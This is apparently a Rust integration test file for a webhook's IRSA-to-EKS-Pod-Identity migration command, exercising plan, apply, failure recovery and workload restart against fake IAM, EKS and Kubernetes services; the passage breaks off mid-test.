//! `migrate` against real parts: IAM is moto in server mode (GetRole, UpdateAssumeRolePolicy,
//! CreateRole to seed), EKS associations the local REST-JSON fake (`tests/eks_support`), the
//! cluster the fake Kubernetes API (`tests/support/kube_api/`) holding objects shaped like the
//! real API server's captures. The SDKs and kube-rs run unchanged.

mod eks_support;
mod support;

use std::collections::BTreeMap;
use std::process::Command;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use aws_sdk_iam::config::interceptors::BeforeSerializationInterceptorContextRef;
use aws_sdk_iam::config::{ConfigBag, Intercept};
use aws_sdk_iam::error::BoxError;
use aws_sdk_iam::operation::get_role::GetRoleInput;
use eks_support::FakeEks;
use pod_identity_webhook::admission::Mutator;
use pod_identity_webhook::admission::review::{Review, response_body};
use pod_identity_webhook::identity::file::FileSource;
use pod_identity_webhook::identity::{Association, Identities};
use pod_identity_webhook::migrate::apply::{self, ApplyOptions, ApplySummary as Summary};
use pod_identity_webhook::migrate::aws::{EksTarget, FileTarget, IamRoles};
use pod_identity_webhook::migrate::checks::CheckSettings;
use pod_identity_webhook::migrate::cluster::KubeCluster;
use pod_identity_webhook::migrate::inventory::Inventory;
use pod_identity_webhook::migrate::rows::{
    Action, Plan, Row, RowStatus as Status, Severity, TrustState,
};
use pod_identity_webhook::migrate::{
    self, AssociationTarget, Parts, Progress, ReadSettings, Scope, trust, verify,
};
use pod_identity_webhook::settings::InjectionSettings;
use serde_json::{Value, json};
use support::kube_api::FakeKubeApi;
use support::sts::Moto;

const ACCOUNT: &str = "111122223333";
const CLUSTER: &str = "prod";
const PREFIX: &str = "eks.amazonaws.com";
const OIDC: &str = "oidc.eks.us-east-1.amazonaws.com/id/EXAMPLED539D4633E53DE1B71EXAMPLE";

/// An IAM client of moto's; `get_roles`, when given, counts the GetRole calls made through it.
fn iam(moto: &Moto, get_roles: Option<GetRoleCounter>) -> aws_sdk_iam::Client {
    let mut conf = aws_sdk_iam::Config::builder()
        .behavior_version(aws_sdk_iam::config::BehaviorVersion::latest())
        .region(aws_sdk_iam::config::Region::new("us-east-1"))
        .credentials_provider(aws_sdk_iam::config::Credentials::new(
            "AKIDEXAMPLE",
            "secret",
            None,
            None,
            "test",
        ))
        .endpoint_url(&moto.endpoint);
    if let Some(counter) = get_roles {
        conf = conf.interceptor(counter);
    }
    aws_sdk_iam::Client::from_conf(conf.build())
}

/// Counts the GetRole operations a client runs (one per operation, whatever its retries).
#[derive(Debug, Clone, Default)]
struct GetRoleCounter(Arc<AtomicUsize>);

impl GetRoleCounter {
    fn count(&self) -> usize {
        self.0.load(Ordering::SeqCst)
    }
}

impl Intercept for GetRoleCounter {
    fn name(&self) -> &'static str {
        "GetRoleCounter"
    }

    fn read_before_execution(
        &self,
        context: &BeforeSerializationInterceptorContextRef<'_>,
        _: &mut ConfigBag,
    ) -> Result<(), BoxError> {
        if context.input().downcast_ref::<GetRoleInput>().is_some() {
            self.0.fetch_add(1, Ordering::SeqCst);
        }
        Ok(())
    }
}

fn arn(role: &str) -> String {
    format!("arn:aws:iam::{ACCOUNT}:role/{role}")
}

/// The trust statement EKS Pod Identity needs.
fn pod_identity_trust() -> Value {
    json!({"Effect": "Allow", "Principal": {"Service": "pods.eks.amazonaws.com"},
           "Action": ["sts:AssumeRole", "sts:TagSession"]})
}

/// The IRSA trust statement `eksctl` writes for one ServiceAccount.
fn irsa_statement(ns: &str, sa: &str) -> Value {
    json!({
        "Effect": "Allow",
        "Principal": {"Federated": format!("arn:aws:iam::{ACCOUNT}:oidc-provider/{OIDC}")},
        "Action": "sts:AssumeRoleWithWebIdentity",
        "Condition": {"StringEquals": {
            format!("{OIDC}:sub"): format!("system:serviceaccount:{ns}:{sa}"),
            format!("{OIDC}:aud"): "sts.amazonaws.com"
        }}
    })
}

fn policy(statements: Vec<Value>) -> Value {
    json!({"Version": "2012-10-17", "Statement": statements})
}

/// A captured object from the real API server, renamed.
fn captured(file: &str) -> Value {
    let (_, body) = support::fixture(file);
    let review: Value = serde_json::from_slice(&body).unwrap();
    review["request"]["object"].clone()
}

fn service_account(ns: &str, name: &str, annotations: &[(&str, &str)]) -> Value {
    let mut a = serde_json::Map::new();
    for (k, v) in annotations {
        a.insert(format!("{PREFIX}/{k}"), json!(v));
    }
    json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {
        "name": name, "namespace": ns, "uid": format!("uid-sa-{ns}-{name}"),
        "creationTimestamp": "2026-11-22T11:35:02Z", "annotations": a}})
}

fn irsa_env(role: &str) -> Vec<Value> {
    vec![
        json!({"name": "AWS_ROLE_ARN", "value": arn(role)}),
        json!({"name": "AWS_WEB_IDENTITY_TOKEN_FILE", "value": "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"}),
    ]
}

/// A pod (the captured `carts-0`), with its ServiceAccount, env, node and owner.
fn pod(
    ns: &str,
    name: &str,
    sa: &str,
    env: Vec<Value>,
    node: &str,
    owner: Option<(&str, &str)>,
) -> Value {
    let mut p = captured("pod-create-carts.mutate.json");
    p["metadata"]["name"] = json!(name);
    p["metadata"]["namespace"] = json!(ns);
    p["metadata"]["uid"] = json!(format!("uid-pod-{ns}-{name}"));
    p["spec"]["serviceAccountName"] = json!(sa);
    p["spec"]["serviceAccount"] = json!(sa);
    p["spec"]["nodeName"] = json!(node);
    p["spec"]["containers"][0]["env"] = Value::Array(env);
    p["status"] = json!({"phase": "Running"});
    if let Some((kind, owner)) = owner {
        p["metadata"]["ownerReferences"] = json!([{"apiVersion": "apps/v1", "kind": kind,
            "name": owner, "uid": format!("uid-{owner}"), "controller": true, "blockOwnerDeletion": true}]);
    }
    p
}

/// A Deployment (the captured `carts`) with one ReplicaSet, for ServiceAccount `sa`.
fn deployment(cluster: &FakeKubeApi, ns: &str, name: &str, sa: &str) -> String {
    let mut d = captured("deployment-create-carts.validate.json");
    d["metadata"]["name"] = json!(name);
    d["metadata"]["namespace"] = json!(ns);
    d["metadata"]["generation"] = json!(1);
    d["spec"]["template"]["spec"]["serviceAccountName"] = json!(sa);
    d["status"] = json!({"observedGeneration": 1, "replicas": 2, "updatedReplicas": 2, "availableReplicas": 2, "readyReplicas": 2});
    cluster.put(d);
    let rs = format!("{name}-7d4b9c");
    cluster.put(json!({"kind": "ReplicaSet", "apiVersion": "apps/v1", "metadata": {
        "name": rs, "namespace": ns, "uid": format!("uid-{rs}"),
        "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": name,
            "uid": format!("uid-{name}"), "controller": true, "blockOwnerDeletion": true}]},
        "spec": {"replicas": 2, "selector": {"matchLabels": {"app": name}},
                 "template": {"metadata": {"labels": {"app": name}}, "spec": {"serviceAccountName": sa, "containers": [{"name": "app", "image": "x"}]}}}}));
    rs
}

fn node(name: &str, os: &str) -> Value {
    json!({"kind": "Node", "apiVersion": "v1", "metadata": {"name": name, "uid": format!("uid-{name}"),
        "labels": {"kubernetes.io/os": os, "kubernetes.io/arch": "amd64", "kubernetes.io/hostname": name}},
        "status": {"nodeInfo": {"operatingSystem": os, "architecture": "amd64"}}})
}

/// A CronJob whose jobs run as `sa`.
fn cronjob(ns: &str, name: &str, sa: &str) -> Value {
    json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns,
        "uid": format!("uid-cj-{ns}-{name}"), "creationTimestamp": "2026-11-22T11:35:02Z"},
        "spec": {"schedule": "0 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
            "serviceAccountName": sa, "restartPolicy": "OnFailure",
            "containers": [{"name": "report", "image": "registry.example/report:1"}]}}}}}})
}

struct World {
    cluster: FakeKubeApi,
    eks: FakeEks,
    moto: Moto,
    iam: aws_sdk_iam::Client,
    kube: KubeCluster,
    target: EksTarget,
    roles: IamRoles,
    /// GetRole calls made by the program (not by the test's own `iam` client).
    get_roles: GetRoleCounter,
    dir: tempfile::TempDir,
}

impl World {
    async fn start() -> Self {
        let cluster = FakeKubeApi::empty().await;
        let eks = FakeEks::start(CLUSTER).await;
        let moto = Moto::in_account(ACCOUNT).await;
        let iam = iam(&moto, None);
        let get_roles = GetRoleCounter::default();
        cluster.put(node("linux-1", "linux"));
        cluster.put(node("win-1", "windows"));
        Self {
            kube: KubeCluster::new(cluster.client(), PREFIX),
            target: EksTarget::new(eks.sdk_client(&eks_support::fast_tuning()), CLUSTER),
            roles: IamRoles::new(self::iam(&moto, Some(get_roles.clone()))),
            get_roles,
            cluster,
            eks,
            iam,
            moto,
            dir: tempfile::tempdir().unwrap(),
        }
    }

    async fn role(&self, name: &str, statements: Vec<Value>) {
        self.iam
            .create_role()
            .role_name(name)
            .assume_role_policy_document(policy(statements).to_string())
            .send()
            .await
            .unwrap();
    }

    /// The role's trust policy as IAM has it now.
    async fn trust(&self, name: &str) -> Value {
        let out = self.iam.get_role().role_name(name).send().await.unwrap();
        trust::parse(out.role().unwrap().assume_role_policy_document().unwrap()).unwrap()
    }

    fn parts(&self) -> Parts<'_> {
        Parts {
            cluster: &self.kube,
            target: &self.target,
            roles: &self.roles,
        }
    }

    async fn plan(&self) -> (Inventory, Plan) {
        migrate::plan(
            &self.parts(),
            &read_settings(false),
            &CheckSettings::new(self.target.info()),
            &Progress::new(false),
        )
        .await
        .unwrap()
    }

    async fn apply(&self, options: &ApplyOptions) -> (Summary, String) {
        self.apply_in(Scope::default(), options).await
    }

    /// `apply` for the ServiceAccounts `scope` selects (`--namespace`, `--service-account`).
    async fn apply_in(&self, scope: Scope, options: &ApplyOptions) -> (Summary, String) {
        let read = ReadSettings {
            scope,
            ..read_settings(false)
        };
        let (inv, plan) = migrate::plan(
            &self.parts(),
            &read,
            &CheckSettings::new(self.target.info()),
            &Progress::new(false),
        )
        .await
        .unwrap();
        let mut out = Vec::new();
        let summary = apply::apply(&self.parts(), &inv, &plan, &read, options, &mut out).await;
        (summary, String::from_utf8(out).unwrap())
    }

    async fn verify(&self) -> verify::Report {
        let inv =
            migrate::read_inventory(&self.parts(), &read_settings(true), &Progress::new(false))
                .await
                .unwrap();
        verify::verify(&inv)
    }

    /// Runs the binary with the standard AWS settings pointing at the fakes.
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        self.run_with(args, true)
    }

    /// As [`World::run`]; without `AWS_ENDPOINT_URL_EKS` unless `eks_env`.
    fn run_with(&self, args: &[&str], eks_env: bool) -> (i32, String, String) {
        let kubeconfig = self.cluster.kubeconfig(self.dir.path());
        let mut command = Command::new(env!("CARGO_BIN_EXE_pod-identity-webhook"));
        command
            .arg("migrate")
            .args(args)
            .args(["--kubeconfig", kubeconfig.to_str().unwrap()])
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("AWS_ACCESS_KEY_ID", "AKIDEXAMPLE")
            .env(
                "AWS_SECRET_ACCESS_KEY",
                "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
            )
            .env("AWS_REGION", "us-east-1")
            .env("AWS_EC2_METADATA_DISABLED", "true")
            .env("AWS_CONFIG_FILE", "/nonexistent")
            .env("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent")
            .env("AWS_ENDPOINT_URL_IAM", &self.moto.endpoint);
        if eks_env {
            command.env("AWS_ENDPOINT_URL_EKS", self.eks.url());
        }
        let out = command.output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }
}

fn read_settings(include_associated: bool) -> ReadSettings {
    ReadSettings {
        annotation_prefix: PREFIX.into(),
        scope: Scope::default(),
        cluster_account: None,
        include_associated,
    }
}

fn pod_identity_env() -> Vec<Value> {
    vec![
        json!({"name": "AWS_CONTAINER_CREDENTIALS_FULL_URI", "value": "http://169.254.170.23/v1/credentials"}),
        json!({"name": "AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE", "value": "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token"}),
    ]
}

/// Statements that fill a trust policy to exactly `target` characters (as IAM counts them).
fn padding(target: usize) -> Vec<Value> {
    let mut list = vec![irsa_statement("shop", "near-limit")];
    let mut i = 0;
    loop {
        let mut next = list.clone();
        next.push(irsa_statement("shop", &format!("other-{i:03}")));
        next.push(irsa_statement("shop", "filler"));
        if trust::iam_size(&policy(next)) >= target - 10 {
            break;
        }
        list.push(irsa_statement("shop", &format!("other-{i:03}")));
        i += 1;
    }
    // The last statement's Sid takes up what is left.
    let mut last = irsa_statement("shop", "filler");
    last["Sid"] = json!("");
    list.push(last);
    let short = trust::iam_size(&policy(list.clone()));
    let n = list.len() - 1;
    list[n]["Sid"] = json!("P".repeat(target - short));
    assert_eq!(trust::iam_size(&policy(list.clone())), target);
    list
}

/// One ServiceAccount per migration case, in namespace `shop`.
async fn seed_cases(w: &World) {
    let c = &w.cluster;
    let sa = |name: &str, role: &str| service_account("shop", name, &[("role-arn", &arn(role))]);
    let pi = pod_identity_trust();
    // A case whose role trusts Pod Identity already: the role and its ServiceAccount `name`.
    let trusted = |name: &'static str| async move {
        w.role(name, vec![pod_identity_trust()]).await;
        c.put(sa(name, name));
    };
    // The case's bare pod `name-0` on `node`, with `env`.
    let first_pod = |name: &str, env: Vec<Value>, node: &str| {
        pod("shop", &format!("{name}-0"), name, env, node, None)
    };

    // Already migrated: trust, association, pods on Pod Identity.
    w.role(
        "migrated",
        vec![irsa_statement("shop", "migrated"), pi.clone()],
    )
    .await;
    c.put(sa("migrated", "migrated"));
    w.eks.add("shop", "migrated", "migrated");
    c.put(pod(
        "shop",
        "migrated-0",
        "migrated",
        pod_identity_env(),
        "linux-1",
        None,
    ));

    // Migrated, and the association scopes its sessions down with an inline session policy.
    w.role("scoped", vec![irsa_statement("shop", "scoped"), pi.clone()])
        .await;
    c.put(sa("scoped", "scoped"));
    w.eks.add("shop", "scoped", "scoped");
    w.eks.update("shop", "scoped", |a| {
        a.disable_session_tags = Some(true);
        a.policy = Some(SCOPED_POLICY.into());
    });

    // Trust missing (IRSA only).
    w.role(
        "trust-missing",
        vec![irsa_statement("shop", "trust-missing")],
    )
    .await;
    c.put(sa("trust-missing", "trust-missing"));
    let rs = deployment(c, "shop", "trust-missing", "trust-missing");
    c.put(pod(
        "shop",
        "trust-missing-1",
        "trust-missing",
        irsa_env("trust-missing"),
        "linux-1",
        Some(("ReplicaSet", &rs)),
    ));

    // Trust present, no association; IRSA-only annotations.
    w.role(
        "trust-present",
        vec![irsa_statement("shop", "trust-present"), pi.clone()],
    )
    .await;
    c.put(service_account(
        "shop",
        "trust-present",
        &[
            ("role-arn", &arn("trust-present")),
            ("audience", "sts.amazonaws.com"),
            ("token-expiration", "3600"),
        ],
    ));

    // TagSession missing.
    w.role(
        "no-tag-session",
        vec![json!({"Effect": "Allow",
        "Principal": {"Service": "pods.eks.amazonaws.com"}, "Action": "sts:AssumeRole"})],
    )
    .await;
    c.put(sa("no-tag-session", "no-tag-session"));

    // Conflict: the association names another role.
    w.role("conflict", vec![irsa_statement("shop", "conflict")])
        .await;
    c.put(sa("conflict", "conflict"));
    w.eks.add("shop", "conflict", "someone-elses");

    // Cross-account role.
    c.put(service_account(
        "shop",
        "cross-account",
        &[("role-arn", "arn:aws:iam::444455556666:role/data")],
    ));

    // Near the size limit: the statement would not fit.
    w.role("near-limit", padding(2000)).await;
    c.put(sa("near-limit", "near-limit"));

    // Static keys in env (care, not a block).
    trusted("static-keys").await;
    c.put(first_pod("static-keys", vec![
        json!({"name": "AWS_ACCESS_KEY_ID", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "id"}}}),
        json!({"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "keys", "key": "secret"}}}),
    ], "linux-1"));

    // A proxy without NO_PROXY, and one with it.
    for (name, proxy, no_proxy) in [
        ("proxy", "HTTPS_PROXY", "localhost,.svc"),
        ("proxy-ok", "HTTP_PROXY", "localhost,169.254.170.23"),
    ] {
        trusted(name).await;
        c.put(first_pod(
            name,
            vec![
                json!({"name": proxy, "value": "http://proxy:3128"}),
                json!({"name": "NO_PROXY", "value": no_proxy}),
            ],
            "linux-1",
        ));
    }

    // A Windows node.
    trusted("windows").await;
    c.put(first_pod("windows", irsa_env("windows"), "win-1"));

    // A Fargate pod (EKS labels it with its profile).
    trusted("fargate").await;
    let mut p = first_pod(
        "fargate",
        irsa_env("fargate"),
        "fargate-ip-10-0-1-7.ec2.internal",
    );
    p["metadata"]["labels"]["eks.amazonaws.com/fargate-profile"] = json!("fp-default");
    c.put(p);

    // Pods created before the association (same role): they still use IRSA.
    w.role("before", vec![irsa_statement("shop", "before"), pi.clone()])
        .await;
    c.put(sa("before", "before"));
    w.eks.add("shop", "before", "before");
    let rs = deployment(c, "shop", "before", "before");
    for i in 0..2 {
        c.put(pod(
            "shop",
            &format!("before-{i}"),
            "before",
            irsa_env("before"),
            "linux-1",
            Some(("ReplicaSet", &rs)),
        ));
    }

    // The role does not exist.
    c.put(sa("no-role", "no-such-role"));

    // Not annotated: not in the plan.
    c.put(service_account("shop", "plain", &[]));
}

fn row<'a>(plan: &'a Plan, name: &str) -> &'a Row {
    plan.rows
        .iter()
        .find(|r| r.service_account == name)
        .unwrap_or_else(|| panic!("no row for {name}"))
}

fn codes(row: &Row, severity: Severity) -> Vec<&'static str> {
    row.findings
        .iter()
        .filter(|f| f.severity == severity)
        .map(|f| f.code)
        .collect()
}

const SCOPED_POLICY: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#;

/// (ServiceAccount, status, trust state, blocking codes, care codes)
type Case<'a> = (&'a str, Status, TrustState, &'a [&'a str], &'a [&'a str]);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn plan_table_of_migration_cases() {
    let w = World::start().await;
    seed_cases(&w).await;
    let (_, plan) = w.plan().await;

    let table: &[Case] = &[
        ("migrated", Status::Done, TrustState::Present, &[], &[]),
        (
            "scoped",
            Status::Done,
            TrustState::Present,
            &[],
            &["session-policy"],
        ),
        (
            "trust-missing",
            Status::Ready,
            TrustState::AddStatement,
            &[],
            &["restart-needed"],
        ),
        (
            "trust-present",
            Status::Ready,
            TrustState::Present,
            &[],
            &["irsa-annotation", "irsa-annotation"],
        ),
        (
            "no-tag-session",
            Status::Ready,
            TrustState::AddTagSession,
            &[],
            &[],
        ),
        (
            "conflict",
            Status::Blocked,
            TrustState::AddStatement,
            &["association-conflict"],
            &[],
        ),
        (
            "cross-account",
            Status::Blocked,
            TrustState::NotChecked,
            &["cross-account"],
            &[],
        ),
        (
            "near-limit",
            Status::Blocked,
            TrustState::AddStatement,
            &["trust-too-large"],
            &[],
        ),
        (
            "static-keys",
            Status::Ready,
            TrustState::Present,
            &[],
            &["static-keys"],
        ),
        (
            "proxy",
            Status::Blocked,
            TrustState::Present,
            &["proxy"],
            &[],
        ),
        ("proxy-ok", Status::Ready, TrustState::Present, &[], &[]),
        (
            "windows",
            Status::Blocked,
            TrustState::Present,
            &["windows-node"],
            &[],
        ),
        (
            "fargate",
            Status::Blocked,
            TrustState::Present,
            &["fargate-node"],
            &[],
        ),
        (
            "before",
            Status::Done,
            TrustState::Present,
            &[],
            &["restart-needed"],
        ),
        (
            "no-role",
            Status::Blocked,
            TrustState::RoleNotFound,
            &["role-not-found"],
            &[],
        ),
    ];
    for (name, status, trust_state, blocks, cares) in table {
        let r = row(&plan, name);
        assert_eq!(r.status, *status, "{name}: {r:#?}");
        assert_eq!(r.trust.state, *trust_state, "{name}: {r:#?}");
        assert_eq!(
            codes(r, Severity::Block),
            *blocks,
            "{name}: {:#?}",
            r.findings
        );
        assert_eq!(
            codes(r, Severity::Care),
            *cares,
            "{name}: {:#?}",
            r.findings
        );
        if *status != Status::Ready {
            assert!(r.actions.is_empty(), "{name}: {:?}", r.actions);
        }
    }
    assert_eq!(
        plan.rows.len(),
        table.len(),
        "the plain ServiceAccount has no row"
    );
    // The session policy the association carries, read from DescribePodIdentityAssociation, is
    // in the plan's output.
    let scoped = serde_json::to_value(row(&plan, "scoped")).unwrap();
    assert_eq!(scoped["association"]["state"], "sameRole", "{scoped}");
    assert_eq!(scoped["association"]["policy"], SCOPED_POLICY, "{scoped}");
    assert_eq!(
        plan.cluster_account.as_deref(),
        Some(ACCOUNT),
        "from DescribeCluster"
    );

    // The actions of a ready row, in order: trust first, then the association.
    let tm = row(&plan, "trust-missing");
    assert!(
        matches!(&tm.actions[..], [Action::UpdateTrust { role_name, .. }, Action::CreateAssociation { .. }] if role_name == "trust-missing")
    );
    assert_eq!(tm.workloads.len(), 1);
    assert_eq!(tm.workloads[0].to_string(), "deployment/shop/trust-missing");

    // Sizes as IAM counts them; the room left; the near-limit policy stays blocked.
    let size = trust::iam_size(&trust::with_pod_identity(&w.trust("trust-missing").await).0);
    assert_eq!(tm.trust.size, Some(size));
    assert_eq!(tm.trust.room, Some(2048 - size as i64));
    let nl = row(&plan, "near-limit");
    assert!(nl.trust.room.unwrap() < 0, "{:?}", nl.trust);
    assert!(trust::iam_size(&w.trust("near-limit").await) <= 2048);

    let b = row(&plan, "before");
    assert_eq!(b.pods_using_irsa, ["before-0", "before-1"]);
    assert_eq!(plan.totals.associations_existing, 4);
    assert_eq!(plan.totals.associations_to_create, 5);
    assert_eq!(plan.totals.association_limit, 5000);
    assert_eq!(plan.exit_code(), 1, "something blocks");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn apply_twice_changes_nothing_the_second_time() {
    let w = World::start().await;
    seed_cases(&w).await;
    let conflict_before = w.trust("conflict").await;
    let near_before = w.trust("near-limit").await;

    let (first, out) = w.apply(&ApplyOptions::default()).await;
    assert_eq!(
        first.trust_updated,
        ["no-tag-session", "trust-missing"],
        "{out}"
    );
    let mut created = first.associations_created.clone();
    created.sort();
    assert_eq!(
        created,
        [
            "shop/no-tag-session",
            "shop/proxy-ok",
            "shop/static-keys",
            "shop/trust-missing",
            "shop/trust-present"
        ],
        "{out}"
    );
    assert!(
        out.contains("+ trust policy of trust-missing: added the Pod Identity statement"),
        "{out}"
    );
    assert!(
        out.contains(
            "+ association shop/trust-present -> arn:aws:iam::111122223333:role/trust-present"
        ),
        "{out}"
    );
    assert!(
        out.contains("! skip shop/conflict: association-conflict"),
        "{out}"
    );
    // Blocked rows are untouched.
    assert_eq!(w.trust("conflict").await, conflict_before);
    assert_eq!(w.trust("near-limit").await, near_before);
    assert!(
        w.eks
            .all()
            .contains(&("shop".into(), "conflict".into(), arn("someone-elses")))
    );

    // The edited policies now trust Pod Identity, once; the IRSA statement is still there.
    for role in ["trust-missing", "no-tag-session"] {
        let p = w.trust(role).await;
        assert_eq!(
            trust::needed_edit(&p),
            trust::TrustEdit::None,
            "{role}: {p}"
        );
    }
    assert!(trust::has_oidc_trust(
        &w.trust("trust-missing").await,
        "shop",
        "trust-missing"
    ));
    assert_eq!(
        w.trust("no-tag-session").await["Statement"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    let creates = w.eks.creates();
    let policies: Vec<Value> = futures::future::join_all(
        ["trust-missing", "no-tag-session", "trust-present"].map(|r| w.trust(r)),
    )
    .await;
    let (second, out) = w.apply(&ApplyOptions::default()).await;
    assert_eq!(second.changes(), 0, "{out}");
    assert_eq!(w.eks.creates(), creates);
    let again: Vec<Value> = futures::future::join_all(
        ["trust-missing", "no-tag-session", "trust-present"].map(|r| w.trust(r)),
    )
    .await;
    assert_eq!(policies, again);
    let (_, plan) = w.plan().await;
    for name in [
        "trust-missing",
        "no-tag-session",
        "trust-present",
        "static-keys",
        "proxy-ok",
    ] {
        assert_eq!(row(&plan, name).status, Status::Done, "{name}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_failure_in_the_middle_leaves_a_state_plan_explains() {
    let w = World::start().await;
    for name in ["a", "b", "c"] {
        w.role(name, vec![irsa_statement("shop", name)]).await;
        w.cluster
            .put(service_account("shop", name, &[("role-arn", &arn(name))]));
    }
    // EKS fails after the first association: trust policies of b and c are already edited.
    w.eks.fail_creates_after(Some(1));
    let (summary, out) = w.apply(&ApplyOptions::default()).await;
    assert_eq!(summary.associations_created, ["shop/a"], "{out}");
    assert_eq!(summary.trust_updated, ["a", "b", "c"], "{out}");
    assert_eq!(summary.stopped.len(), 2, "{out}");
    assert!(
        summary
            .stopped
            .iter()
            .all(|s| s.step == "association" && s.reason.contains("ServerException")),
        "{:?}",
        summary.stopped
    );

    // The plan explains: a is done; b and c have their trust and lack only the association.
    let (_, plan) = w.plan().await;
    assert_eq!(row(&plan, "a").status, Status::Done);
    for name in ["b", "c"] {
        let r = row(&plan, name);
        assert_eq!(r.trust.state, TrustState::Present, "{name}");
        assert_eq!(r.association.label(), "missing");
        assert!(
            matches!(&r.actions[..], [Action::CreateAssociation { .. }]),
            "{name}: {:?}",
            r.actions
        );
    }

    // Fixed, the re-run finishes without touching a trust policy again.
    w.eks.fail_creates_after(None);
    let (summary, out) = w.apply(&ApplyOptions::default()).await;
    assert!(summary.trust_updated.is_empty(), "{out}");
    assert_eq!(summary.associations_created, ["shop/b", "shop/c"], "{out}");
    assert!(summary.stopped.is_empty(), "{out}");
}

/// `pod` as the webhook admits it: the program's own mutation (`Mutator`) of a creation review,
/// with the association of `shop/<service_account>` to the role of that name, its patch applied.
async fn admitted_by_the_webhook(pod: &Value, service_account: &str) -> Value {
    let association = Association {
        namespace: "shop".into(),
        service_account: service_account.into(),
        role_arn: arn(service_account),
        target_role_arn: None,
        external_id: None,
        disable_session_tags: None,
        policy: None,
        association_id: None,
    };
    let identities = Identities::new(PREFIX)
        .with_associations(FileSource::from_list(vec![association]).unwrap());
    let mutator = Mutator::new(InjectionSettings::default(), identities);
    let (_, body) = support::fixture("pod-create-carts.mutate.json");
    let mut review: Value = serde_json::from_slice(&body).unwrap();
    review["request"]["object"] = pod.clone();
    review["request"]["namespace"] = pod["metadata"]["namespace"].clone();
    review["request"]["name"] = pod["metadata"]["name"].clone();
    let body = serde_json::to_vec(&review).unwrap();
    let review = Review::read(&body).unwrap();
    let decision = mutator
        .review(&review.request, Duration::from_secs(5))
        .await;
    let answer = response_body(&review.api_version, &decision.response);
    support::apply_answer(pod, &serde_json::from_slice(&answer).unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn restart_then_verify_then_remove_annotations_and_oidc_trust() {
    let w = World::start().await;
    let pi = pod_identity_trust();
    w.role(
        "before",
        vec![
            irsa_statement("shop", "before"),
            irsa_statement("shop", "other"),
            pi,
        ],
    )
    .await;
    w.cluster.put(service_account(
        "shop",
        "before",
        &[("role-arn", &arn("before")), ("token-expiration", "3600")],
    ));
    w.eks.add("shop", "before", "before");
    let rs = deployment(&w.cluster, "shop", "before", "before");
    for i in 0..2 {
        w.cluster.put(pod(
            "shop",
            &format!("before-{i}"),
            "before",
            irsa_env("before"),
            "linux-1",
            Some(("ReplicaSet", &rs)),
        ));
    }
    // A bare pod nobody can restart but a person.
    w.cluster.put(pod(
        "shop",
        "debug",
        "before",
        irsa_env("before"),
        "linux-1",
        None,
    ));

    let report = w.verify().await;
    assert!(!report.complete());
    let names: Vec<&str> = report
        .pods_need_restart
        .iter()
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(names, ["before-0", "before-1", "debug"]);
    assert_eq!(report.still_annotated.len(), 1);
    assert!(report.still_annotated[0].has_association);

    // OIDC trust stays while pods still use IRSA.
    let (summary, out) = w
        .apply(&ApplyOptions {
            remove_oidc_trust: true,
            ..ApplyOptions::default()
        })
        .await;
    assert!(summary.oidc_trust_removed.is_empty(), "{out}");
    assert!(out.contains("3 pods still use IRSA"), "{out}");
    assert!(trust::has_oidc_trust(
        &w.trust("before").await,
        "shop",
        "before"
    ));

    let options = ApplyOptions {
        restart_workloads: true,
        poll_interval: Duration::from_millis(50),
        rollout_timeout: Duration::from_secs(10),
        ..ApplyOptions::default()
    };
    let (summary, out) = w.apply(&options).await;
    assert_eq!(
        summary.workloads_restarted,
        ["deployment/shop/before"],
        "{out}"
    );
    assert_eq!(summary.restart_by_hand, ["shop/debug"], "{out}");
    assert!(
        summary.annotations_removed.is_empty(),
        "not asked for: {out}"
    );
    // kubectl's restart annotation, by merge patch, on the Deployment only.
    let patches = w.cluster.patches();
    assert_eq!(patches.len(), 1, "{patches:?}");
    let (path, content_type, body) = &patches[0];
    assert_eq!(path, "/apis/apps/v1/namespaces/shop/deployments/before");
    assert_eq!(content_type, "application/merge-patch+json");
    let at =
        body["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"]
            .as_str()
            .unwrap();
    assert!(at.ends_with('Z') && at.len() == 20, "{at}");

    // The replacements come from the Deployment's template; the webhook admits them with its own
    // mutation (the association now wins), as the API server would call it.
    let replacements: Vec<String> = w
        .cluster
        .names("pods", "shop")
        .into_iter()
        .filter(|n| n.starts_with("before-") && n.ends_with("-g2"))
        .collect();
    assert_eq!(replacements, ["before-0-g2", "before-1-g2"]);
    for name in &replacements {
        let pod = w.cluster.get("pods", "shop", name).unwrap();
        let admitted = admitted_by_the_webhook(&pod, "before").await;
        let env = &admitted["spec"]["containers"][0]["env"];
        assert!(
            env.to_string()
                .contains("AWS_CONTAINER_CREDENTIALS_FULL_URI"),
            "{env}"
        );
        w.cluster.put(admitted);
    }

    // Only the bare pod is left on IRSA.
    let report = w.verify().await;
    let names: Vec<&str> = report
        .pods_need_restart
        .iter()
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(names, ["debug"]);
    w.cluster.put(pod(
        "shop",
        "debug",
        "before",
        pod_identity_env(),
        "linux-1",
        None,
    ));

    // Now the OIDC trust of this ServiceAccount goes (the other's stays), and its annotations.
    let (summary, out) = w
